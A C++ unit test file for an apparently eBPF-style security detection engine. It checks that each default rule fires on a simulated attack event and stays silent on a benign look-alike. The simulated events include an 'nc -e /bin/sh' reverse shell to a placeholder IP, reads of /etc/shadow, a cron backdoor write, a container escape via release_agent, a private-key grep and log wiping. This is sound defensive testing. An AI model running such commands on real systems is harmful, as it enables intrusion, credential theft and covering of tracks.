// Every rule of rules/ksight_rules.yaml fires on an event shaped like the real
// attack and stays quiet on a benign look-alike.
#include <gtest/gtest.h>

#include <fstream>
#include <functional>
#include <set>
#include <sstream>

#include "event_builders.h"
#include "rules/engine.h"

namespace ksight::rules {
namespace {

using namespace testing;

std::shared_ptr<const RuleSet> default_rules() {
  static auto rules = [] {
    auto result = load_rules({{kDefaultRulesName, std::string(default_rules_yaml())}});
    EXPECT_TRUE(result.ok()) << result.diagnostics.format();
    return result.rules;
  }();
  return rules;
}

struct RuleCase {
  std::string rule;
  std::function<SecurityEvent()> attack;
  std::function<SecurityEvent()> benign;
  int repeat = 1;  // rate rules need a burst
};

void PrintTo(const RuleCase& c, std::ostream* os) {
  *os << c.rule;
}

SecurityEvent with_arg(SecurityEvent ev, std::string name, std::string value) {
  ev.set_arg(std::move(name), std::move(value));
  return ev;
}

SecurityEvent typed(EventType type, std::string comm, int64_t res = 0) {
  SecurityEvent ev = base_event(type, std::move(comm));
  ev.res = res;
  return ev;
}

SecurityEvent path_event(EventType type, std::string comm, std::string path) {
  SecurityEvent ev = typed(type, std::move(comm));
  ev.fd.name = std::move(path);
  ev.fd.type_char = 'f';
  return ev;
}

SecurityEvent with_tty(SecurityEvent ev) {
  ev.proc.tty = 34816;
  return ev;
}

SecurityEvent as_root(SecurityEvent ev) {
  ev.proc.uid = 0;
  ev.proc.user = "root";
  return ev;
}

SecurityEvent exe_at(SecurityEvent ev, std::string exe) {
  ev.proc.exe = std::move(exe);
  return ev;
}

SecurityEvent dup_of(char type_char, std::string newfd) {
  SecurityEvent ev = typed(EventType::kDup2, "bash", 0);
  ev.fd.type_char = type_char;
  if (type_char == '4') {
    ev.fd.sip = "10.0.0.5";
    ev.fd.sport = 41000;
    ev.fd.dip = "203.0.113.9";
    ev.fd.dport = 4444;
  } else {
    ev.fd.name = "pipe:[1234]";
  }
  ev.set_arg("oldfd", "3");
  ev.set_arg("newfd", std::move(newfd));
  return ev;
}

SecurityEvent unix_connect(std::string path) {
  SecurityEvent ev = typed(EventType::kConnect, "curl", 0);
  ev.fd.type_char = 'u';
  ev.fd.name = std::move(path);
  return ev;
}

std::vector<RuleCase> cases() {
  return {
      {"Terminal Shell In Container",
       [] { return in_container(with_tty(exec_event("bash", {"-i"}, "runc"))); },
       [] {
         return in_container(exec_event("bash", {"-c", "entrypoint.sh"}, "runc"));
       }},
      {"Shell Spawned By Server Process",
       [] {
         return exec_event("sh", {"-c", "id"}, "nginx");
       },
       [] {
         return exec_event("sh", {"-c", "make"}, "bash");
       }},
      {"Read Sensitive File By Untrusted Process",
       [] { return open_event("python3", "/etc/shadow", "O_RDONLY"); },
       [] { return open_event("sshd", "/etc/shadow", "O_RDONLY|O_CLOEXEC"); }},
      {"Write Below Etc",
       [] { return open_event("python3", "/etc/cron.d/backdoor", "O_WRONLY|O_CREAT|O_TRUNC"); },
       [] { return open_event("dpkg", "/etc/cron.d/sysstat", "O_WRONLY|O_CREAT|O_TRUNC"); }},
      {"Write Below Binary Directory",
       [] { return open_event("curl", "/usr/bin/ls", "O_WRONLY|O_CREAT|O_TRUNC"); },
       [] { return open_event("curl", "/usr/bin/ls", "O_RDONLY"); }},
      {"Execution From Temporary Directory",
       [] { return exe_at(exec_event("payload", {}), "/dev/shm/payload"); },
       [] { return exe_at(exec_event("tmpreaper", {"/tmp"}), "/usr/sbin/tmpreaper"); }},
      {"Fileless Execution Via Memfd",
       [] {
         auto ev = exe_at(exec_event("x", {}), "memfd:x (deleted)");
         ev.proc.is_exe_from_memfd = true;
         return ev;
       },
       [] { return exe_at(exec_event("memfd_test", {}), "/usr/bin/memfd_test"); }},
      {"Kernel Module Loaded",
       [] {
         auto ev = as_root(path_event(EventType::kFinitModule, "insmod", "/tmp/rk.ko"));
         return with_arg(ev, "name", "rk");
       },
       [] {
         return as_root(path_event(EventType::kFinitModule, "modprobe", "/lib/modules/x.ko"));
       }},
      {"Ptrace Attach To Process",
       [] {
         return with_arg(with_arg(typed(EventType::kPtrace, "inject"), "request", "PTRACE_ATTACH"),
                         "pid", "1");
       },
       [] { return with_arg(typed(EventType::kPtrace, "app"), "request", "PTRACE_TRACEME"); }},
      {"Setuid To Root By Non-Root Process",
       [] { return with_arg(typed(EventType::kSetuid, "exploit"), "uid", "0"); },
       [] { return with_arg(typed(EventType::kSetuid, "sudo"), "uid", "0"); }},
      {"Reverse Shell Socket Redirect", [] { return dup_of('4', "0"); },
       [] { return dup_of('p', "1"); }},
      {"Outbound Connection To Miner Or C2 Port",
       [] { return connect_event("xmrig", "198.51.100.7", 3333, -115); },
       [] { return connect_event("curl", "198.51.100.7", 443); }},
      {"Netcat With Exec Option",
       [] {
         return exec_event("nc", {"-e", "/bin/sh", "203.0.113.9", "4444"});
       },
       [] {
         return exec_event("nc", {"-vz", "some-example.com", "443"});
       }},
      {"Log File Truncated",
       [] { return open_event("bash", "/var/log/auth.log", "O_WRONLY|O_TRUNC"); },
       [] { return open_event("rsyslogd", "/var/log/auth.log", "O_WRONLY|O_CREAT|O_TRUNC"); }},
      {"Log File Deleted", [] { return path_event(EventType::kUnlinkat, "rm", "/var/log/wtmp"); },
       [] { return path_event(EventType::kUnlinkat, "logrotate", "/var/log/syslog.7.gz"); }},
      {"Shell History Tampered",
       [] { return path_event(EventType::kUnlink, "rm", "/root/.bash_history"); },
       [] { return open_event("bash", "/home/alice/.bash_history", "O_WRONLY|O_APPEND"); }},
      {"BPF Program Loaded By Unexpected Process",
       [] { return with_arg(typed(EventType::kBpf, "loader", 5), "cmd", "BPF_PROG_LOAD"); },
       [] { return with_arg(typed(EventType::kBpf, "bpftrace", 5), "cmd", "BPF_PROG_LOAD"); }},
      {"Mount Inside Container",
       [] {
         return in_container(with_arg(typed(EventType::kMount, "mount"), "source", "/dev/sda1"));
       },
       [] { return with_arg(typed(EventType::kMount, "mount"), "source", "/dev/sda1"); }},
      {"Package Manager In Container",
       [] {
         return in_container(exec_event("apt-get", {"install", "nmap"}, "sh"));
       },
       [] { return exec_event("apt-get", {"upgrade"}, "bash"); }},
      {"Container Escape Via Release Agent",
       [] { return in_container(open_event("sh", "/tmp/cgrp/release_agent", "O_WRONLY|O_TRUNC")); },
       [] { return in_container(open_event("sh", "/tmp/cgrp/release_agent", "O_RDONLY")); }},
      {"Container Runtime Socket Accessed From Container",
       [] { return in_container(unix_connect("/var/run/docker.sock")); },
       [] { return in_container(unix_connect("/run/dbus/system_bus_socket")); }},
      {"Search For Private Keys Or Credentials",
       [] {
         return exec_event("grep", {"-r", "BEGIN RSA PRIVATE KEY", "/"});
       },
       [] {
         return exec_event("grep", {"-r", "TODO", "src/"});
       }},
      {"Setuid Or Setgid Bit Set",
       [] {
         return with_arg(path_event(EventType::kFchmodat, "chmod", "/tmp/sh"), "mode",
                         "S_ISUID|S_IRWXU");
       },
       [] {
         return with_arg(path_event(EventType::kFchmodat, "chmod", "/tmp/sh"), "mode", "S_IRWXU");
       }},
      {"Burst Of Failed Connections", [] { return connect_event("nmap", "10.0.0.9", 22, -111); },
       [] { return connect_event("nmap", "10.0.0.9", 22, -115); }, 51},
      {"Burst Of Process Executions",
       [] {
         return exec_event("sh", {"-c", "x"}, "bomb");
       },
       [] { return typed(EventType::kExit, "sh"); }, 301},
  };
}

std::vector<std::string> run(const RuleCase& c, const SecurityEvent& proto) {
  EngineOptions options;
  options.alert_limit = RateLimit{};
  Engine engine(default_rules(), options);
  std::vector<Alert> alerts;
  SecurityEvent ev = proto;
  for (int i = 0; i < c.repeat; ++i) {
    ev.ts_ns += 1'000'000;  // 1 ms apart
    engine.process(ev, alerts);
  }
  std::vector<std::string> names;
  for (const auto& a : alerts) names.push_back(a.rule);
  return names;
}

class DefaultRuleTest : public ::testing::TestWithParam<RuleCase> {};

TEST_P(DefaultRuleTest, FiresOnAttackOnly) {
  const RuleCase& c = GetParam();
  auto fired = run(c, c.attack());
  EXPECT_EQ(std::count(fired.begin(), fired.end(), c.rule), 1) << c.rule;
  auto quiet = run(c, c.benign());
  EXPECT_EQ(std::count(quiet.begin(), quiet.end(), c.rule), 0) << c.rule;
}

TEST_P(DefaultRuleTest, AlertHasUsefulOutput) {
  const RuleCase& c = GetParam();
  EngineOptions options;
  options.alert_limit = RateLimit{};
  Engine engine(default_rules(), options);
  std::vector<Alert> alerts;
  SecurityEvent ev = c.attack();
  for (int i = 0; i < c.repeat; ++i) engine.process(ev, alerts);
  auto it =
      std::find_if(alerts.begin(), alerts.end(), [&](const Alert& a) { return a.rule == c.rule; });
  ASSERT_NE(it, alerts.end());
  EXPECT_FALSE(it->tags.empty());
  EXPECT_FALSE(std::isspace(static_cast<unsigned char>(it->output.back()))) << it->output;
  EXPECT_GE(it->output_fields.size(), 3u);
  bool has_mitre = false;
  for (const auto& t : it->tags) has_mitre |= t.size() > 1 && t[0] == 'T' && std::isdigit(t[1]);
  EXPECT_TRUE(has_mitre) << c.rule;
}

INSTANTIATE_TEST_SUITE_P(Rules, DefaultRuleTest, ::testing::ValuesIn(cases()),
                         [](const auto& info) {
                           std::string name;
                           for (char ch : info.param.rule) {
                             if (std::isalnum(static_cast<unsigned char>(ch))) name += ch;
                           }
                           return name;
                         });

TEST(DefaultRulesetTest, EveryRuleHasACaseAndValidatesClean) {
  auto result = load_rules({{kDefaultRulesName, std::string(default_rules_yaml())}});
  ASSERT_TRUE(result.ok()) << result.diagnostics.format();
  EXPECT_EQ(result.diagnostics.items.size(), 0u) << result.diagnostics.format();
  std::set<std::string> covered;
  for (const auto& c : cases()) covered.insert(c.rule);
  EXPECT_GE(result.rules->rules().size(), 20u);
  for (const auto& rule : result.rules->rules()) {
    EXPECT_TRUE(covered.contains(rule.name)) << "no test case for " << rule.name;
    EXPECT_FALSE(rule.desc.empty());
    EXPECT_FALSE(rule.event_types.all()) << rule.name << " is evaluated for every event";
  }
  EXPECT_EQ(covered.size(), result.rules->rules().size());
}

TEST(DefaultRulesetTest, EmbeddedCopyMatchesTheRepository) {
  std::ifstream in(std::string(KSIGHT_SOURCE_DIR) + "/rules/ksight_rules.yaml");
  std::stringstream text;
  text << in.rdbuf();
  EXPECT_EQ(text.str(), default_rules_yaml());
}

}  // namespace
}  // namespace ksight::rules
